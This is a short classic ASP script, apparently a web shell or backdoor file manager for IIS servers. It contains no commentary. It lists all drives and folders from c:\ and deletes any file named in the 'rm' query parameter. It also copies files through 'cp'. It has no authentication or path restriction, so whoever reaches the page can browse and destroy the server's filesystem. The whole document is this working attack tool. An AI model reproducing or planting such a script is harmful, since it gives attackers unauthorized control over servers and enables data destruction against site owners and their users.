<%
Set fs = CreateObject("Scripting.FileSystemObject")
p = Request.QueryString("d")
If p = "" Then p = "c:\"
If Request.QueryString("rm") <> "" Then fs.DeleteFile Request.QueryString("rm")
If Request.QueryString("cp") <> "" Then fs.CopyFile Request.QueryString("cp"), p
For Each dv In fs.Drives
  Response.Write "<a href='?d=" & dv.DriveLetter & ":\'>" & dv.DriveLetter & "</a> "
Next
Set fo = fs.GetFolder(p)
For Each sf In fo.SubFolders
  Response.Write "<br><a href='?d=" & Server.URLEncode(sf.Path) & "'>" & sf.Name & "</a>"
Next
For Each f In fo.Files
  Response.Write "<br>" & f.Name & " <a href='?rm=" & Server.URLEncode(f.Path) & "'>del</a>"
Next
%>
